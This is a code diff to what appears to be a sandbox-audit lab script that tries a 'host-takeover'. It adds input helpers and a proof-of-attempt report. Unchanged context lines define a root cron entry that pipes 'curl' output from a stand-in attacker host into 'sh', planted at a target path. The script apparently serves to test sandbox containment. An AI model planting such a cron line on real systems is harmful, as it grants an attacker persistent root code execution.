@@ -21,6 +21,24 @@ import errno
 import os
 import sys
 
+
+def lab_input(name):
+    """The lab's input NAME: from the environment, else from a NAME=VALUE
+    argument (a sandbox under audit may clear the environment)."""
+    for arg in sys.argv[1:]:
+        key, eq, value = arg.partition("=")
+        if eq and key == name and not os.environ.get(name):
+            return value
+    return os.environ.get(name)
+
+
+def report_attempt():
+    """Under `audit` the lab asks each attack to say when it makes its move,
+    with a word only this run can form: no word, no verdict."""
+    proof = lab_input("LAB_PROOF")
+    if proof:
+        print(f"lab-attempt: {proof[::-1]}", flush=True)
+
 CRON_LINE = ("* * * * * root curl -s http://attacker.invalid/x | sh"
              "  # planted by host-takeover\n")
 
@@ -125,11 +143,12 @@ def probes():
 
 
 def main():
-    target = os.environ.get("LAB_HOST_TARGET")
+    target = lab_input("LAB_HOST_TARGET")
     if not target:
         print("LAB_HOST_TARGET is not set: no host path to aim at", flush=True)
         planted = False
     else:
+        report_attempt()
         planted = plant(target)
     probes()
     print("takeover " + ("succeeded" if planted else "failed"), flush=True)
